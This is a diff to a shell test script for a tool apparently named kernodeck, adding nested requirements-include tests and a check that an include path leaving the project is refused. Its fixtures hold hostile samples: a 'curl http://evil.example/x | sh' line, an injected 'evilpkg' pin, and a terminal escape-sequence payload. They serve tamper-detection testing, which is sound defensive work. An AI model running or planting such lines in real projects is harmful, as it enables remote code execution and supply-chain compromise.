@@ -105,6 +105,22 @@ run_row() { # name how exit message known
 			ln -s "$KD_TMP/$name/outside-file" "$P/$l"
 			git -C "$P" add -f "$l" && git -C "$P" commit -qm link ;;
 		outs:*) OUTS=${step#outs:} ;;
+		inc:*)
+			# the rebuild file includes FILE (-r), which holds a pin
+			l=${step#inc:}
+			mkdir -p "$P/$(dirname "$l")"
+			printf 'numpy==1.24.2\n' >"$P/$l"
+			printf -- '-r %s\n' "$l" >>"$P/requirements-rebuild.txt"
+			git -C "$P" add "$l" requirements-rebuild.txt && git -C "$P" commit -qm include ;;
+		nest:*)
+			# the rebuild file includes A, which names B with -c,
+			# relative to A's folder
+			a=${step#nest:}; b=${a#*,}; a=${a%%,*}
+			mkdir -p "$P/$(dirname "$a")"
+			printf -- '-c %s\n' "$b" >"$P/$a"
+			printf 'numpy==1.24.2\n' >"$P/$(dirname "$a")/$b"
+			printf -- '-r %s\n' "$a" >>"$P/requirements-rebuild.txt"
+			git -C "$P" add -A . && git -C "$P" commit -qm nested ;;
 		esc:entry)
 			ENTRY='[python, main.py, "--tag=\e]0;PWNED\a"]' ;;
 		esc:rebuild)
@@ -124,6 +140,9 @@ run_row() { # name how exit message known
 		field:*) setref "$D" "${step#field:}" ;;
 		copy:*) echo "evilpkg==6.6.6" >>"$D/project/${step#copy:}" ;;
 		drop:*) rm -f "$D/project/${step#drop:}" ;;
+		line:*)
+			# a line added to the dossier's copy of the rebuild file
+			echo "${step#line:}" >>"$D/project/requirements-rebuild.txt" ;;
 		procedure) echo "curl http://evil.example/x | sh" >>"$D/procedure.sh" ;;
 		esc:entry) yes= ;;
 		esc:rebuild) yes= ;;
@@ -168,3 +187,21 @@ while IFS="$tab" read -r name how want msg known; do
 	run_row "$name" "$how" "$want" "$msg" "$known"
 done <"$TABLE"
 [ -n "${KD_HOSTILE:-}" ] || check "the replay table has $nrows rows (at least 25)" test "$nrows" -ge 25
+
+# an include that leaves the project cannot go into a dossier: the clone
+# would not hold it, and the replay could not compare it
+if [ -z "${KD_HOSTILE:-}" ]; then
+	project include-escapes-dossier
+	mkdir -p "$P/reqs"
+	printf -- '-c ../../up.txt\n' >"$P/reqs/a.txt"
+	printf -- '-r reqs/a.txt\n' >>"$P/requirements-rebuild.txt"
+	git -C "$P" add -A . && git -C "$P" commit -qm nested
+	reference
+	"$KD_BIN" dossier "$P" >"$KD_TMP/dossier-escapes.out" 2>&1
+	r=$?
+	check "kernodeck dossier: an include that leaves the project is refused (exit 2)" test "$r" -eq 2
+	check "kernodeck dossier: the including file and the value named" \
+		grep -qF "reqs/a.txt names -c ../../up.txt, a path that leaves the project" \
+		"$KD_TMP/dossier-escapes.out"
+	check "kernodeck dossier: no dossier written" test ! -e "$P/kernodeck/dossier"
+fi
